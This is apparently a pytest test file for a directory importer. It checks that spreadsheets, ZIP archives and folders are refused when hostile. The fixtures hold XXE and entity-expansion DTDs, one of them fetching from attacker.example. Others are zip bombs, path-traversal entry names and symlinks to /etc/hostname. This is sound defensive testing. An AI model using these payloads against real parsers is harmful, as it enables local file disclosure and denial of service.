"""Workbooks, archives and folders: looked at before they are opened (I1, I2, I4, I5, I8)."""

import io
import stat
import tracemalloc
import zipfile
from datetime import date

import pytest
from openpyxl import Workbook

from directory.formats import csv_directory, read, read_path
from directory.refusals import ImportRefused

ORDINARY = {
    "id": "row-0",
    "organization": "Verein",
    "service": "Hilfe",
    "needs": "daily.clothing",
    "municipalities": "Büren",
    "phone": "02951 9335713",
}


@pytest.fixture
def workbook():
    def write(*rows, before=(), more=()):
        book = Workbook()
        for title in before:
            book.create_sheet(title, 0).append(["Hinweise"])
        sheet = book[book.sheetnames[-1]]
        columns = [*csv_directory.COLUMNS, *more]
        sheet.append(columns)
        for at, row in enumerate(rows):
            values = ORDINARY | {"id": f"row-{at}"} | row
            sheet.append([values.get(column) for column in columns])
        out = io.BytesIO()
        book.save(out)
        return out.getvalue()

    return write


def packed(*files, compression=zipfile.ZIP_DEFLATED):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression) as archive:
        for name, inside in files:
            archive.writestr(name, inside)
    return out.getvalue()


def with_part(raw, name, xml):
    """The workbook with one of its parts exchanged."""
    with zipfile.ZipFile(io.BytesIO(raw)) as archive:
        return packed(*((one, xml if one == name else archive.read(one)) for one in archive.namelist()))


def test_a_workbook_is_read_like_the_list_it_holds(workbook, around):
    raw = workbook({"service": "Möbel"}, {}, before=["Lies mich"], more=["assured_date", "age_from"])

    reading = read("liste.xlsx", raw, around)

    assert [(entry.source_id, entry.name, entry.phones) for entry in reading.entries] == [
        ("row-0", "Möbel", ("02951 9335713",)),
        ("row-1", "Hilfe", ("02951 9335713",)),
    ]


def test_dates_and_numbers_of_a_workbook_are_read_as_people_see_them(workbook, around):
    raw = workbook({"assured_date": date(2026, 3, 1), "age_from": 16, "postal_code": 33142}, more=["assured_date", "age_from"])

    [entry] = read("liste.xlsx", raw, around).entries

    assert (entry.assured_date, entry.age_from, entry.postal_code) == ("2026-03-01", 16, "33142")


@pytest.mark.parametrize("phone", [2951.5e6, 4.95251e11, date(2026, 2, 1), 29519335713])
def test_what_a_spreadsheet_made_of_a_telephone_number_is_flagged_and_not_taken(workbook, around, phone):
    reading = read("liste.xlsx", workbook({"phone": phone}), around)

    assert reading.entries[0].phones == ()
    assert "phones" in {doubt.field for doubt in reading.doubts}


def test_a_formula_in_a_cell_stays_text_and_is_flagged(workbook, around):
    reading = read("liste.xlsx", workbook({"description_de": '=HYPERLINK("http://x.example";"hier")'}), around)

    assert reading.entries[0].description.startswith("=HYPERLINK")
    assert ("description", "formula kept as text") in {(doubt.field, doubt.reason) for doubt in reading.doubts}


def test_a_row_that_cannot_stand_is_named_as_the_spreadsheet_counts(workbook, around):
    with pytest.raises(ImportRefused) as refused:
        read("liste.xlsx", workbook({}, {}, {"municipalities": "Atlantis"}), around)

    assert (refused.value.row, refused.value.column) == (4, "municipalities")


@pytest.mark.parametrize(
    "dtd",
    [
        '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;">]>',
        '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/hostname">]>',
        '<!DOCTYPE x SYSTEM "http://attacker.example/x.dtd">',
    ],
)
@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
def test_entities_in_a_sheet_are_refused_before_the_workbook_is_opened(workbook, around, dtd, encoding):
    sheet = f'<?xml version="1.0" encoding="{encoding}"?>{dtd}<worksheet><sheetData/></worksheet>'.encode(encoding)

    with pytest.raises(ImportRefused, match="declares entities"):
        read("liste.xlsx", with_part(workbook({}), "xl/worksheets/sheet1.xml", sheet), around)


def test_an_archive_that_declares_too_much_is_refused_unopened(workbook, around, monkeypatch):
    bomb = packed(("xl/worksheets/sheet1.xml", b"0" * 300_000_000))
    many = packed(*((f"{at}.xml", b"") for at in range(10_000)))
    steep = packed(("services.csv", b"0" * 20_000_000))
    monkeypatch.setattr(zipfile.ZipFile, "open", lambda *_: pytest.fail("it was opened"))

    for file, raw, why in (
        ("liste.xlsx", bomb, "unpacked larger"),
        ("liste.xlsx", many, "10000 files"),
        ("paket.zip", steep, "would grow more than"),
    ):
        with pytest.raises(ImportRefused, match=why):
            read(file, raw, around)


@pytest.mark.parametrize("name", ["../services.csv", "/etc/services.csv", "a/../../services.csv", "C:services.csv", "a\\..\\services.csv"])
def test_a_name_that_leads_out_of_the_archive_is_refused(around, name):
    with pytest.raises(ImportRefused, match="leads out"):
        read("paket.zip", packed((name, b"id")), around)


def test_links_archives_in_archives_and_encrypted_files_are_refused(around):
    link = zipfile.ZipInfo("services.csv")
    link.external_attr = (stat.S_IFLNK | 0o777) << 16
    inner = packed(("services.csv", b"id"))
    locked = bytearray(packed(("services.csv", b"id")))
    locked[locked.index(b"PK\x01\x02") + 8] |= 1

    for raw, why in (
        (packed((link, b"/etc/hostname")), "a link"),
        (packed(("inner.zip", inner)), "archive inside"),
        (packed(("inner.csv", inner)), "archive inside"),
        (bytes(locked), "encrypted"),
        (inner[:-30], "not a readable archive"),
    ):
        with pytest.raises(ImportRefused, match=why):
            read("paket.zip", raw, around)


def test_a_size_that_is_a_lie_gives_no_more_than_it_said(around):
    raw = bytearray(packed(("services.csv", b"id,organization\n" * 1000), compression=zipfile.ZIP_STORED))
    at = raw.index(b"PK\x01\x02") + 24
    raw[at : at + 4] = (10).to_bytes(4, "little")

    with pytest.raises(ImportRefused, match="damaged"):
        read("paket.zip", bytes(raw), around)


def test_a_folder_and_an_archive_are_read_like_the_file_in_them(tmp_path, sheet, around):
    inside = sheet({"service": "Möbel"})
    folder = tmp_path / "liste"
    folder.mkdir()
    (folder / "services.csv").write_bytes(inside)
    (folder / "LIESMICH.md").write_text("Hinweise")
    archive = tmp_path / "liste.zip"
    archive.write_bytes(packed(("liste/services.csv", inside), ("liste/LIESMICH.md", b"Hinweise")))

    assert read_path(folder, around) == read_path(archive, around) == read("services.csv", inside, around)


def test_a_folder_with_a_link_or_with_two_lists_is_refused(tmp_path, sheet, around):
    (tmp_path / "a.csv").write_bytes(sheet({}))
    (tmp_path / "b.csv").write_bytes(sheet({}))
    with pytest.raises(ImportRefused, match="more than one file"):
        read_path(tmp_path, around)
    (tmp_path / "services.csv").symlink_to("/etc/hostname")
    with pytest.raises(ImportRefused, match="link to elsewhere"):
        read_path(tmp_path, around)


def test_a_workbook_that_would_be_half_a_gigabyte_costs_no_memory(around):
    """I1, A16: some 511 KB that declare 512 MB."""
    out = io.BytesIO()
    with (
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive,
        archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as sheet,
    ):
        for _ in range(512):
            sheet.write(b"0" * 1_000_000)
    raw = out.getvalue()
    assert len(raw) < 600_000
    tracemalloc.start()
    try:
        with pytest.raises(ImportRefused, match="unpacked larger"):
            read("liste.xlsx", raw, around)
        assert tracemalloc.get_traced_memory()[1] < 50_000_000
    finally:
        tracemalloc.stop()


def test_a_sheet_with_more_rows_than_are_read_is_refused(workbook, around, monkeypatch):
    """I4, where a list has 20,000 rows at most."""
    monkeypatch.setattr("directory.csv_text.MAX_ROWS", 3)

    assert len(read("liste.xlsx", workbook({}, {}, {}), around).entries) == 3
    with pytest.raises(ImportRefused, match="more than 3 rows"):
        read("liste.xlsx", workbook({}, {}, {}, {}), around)
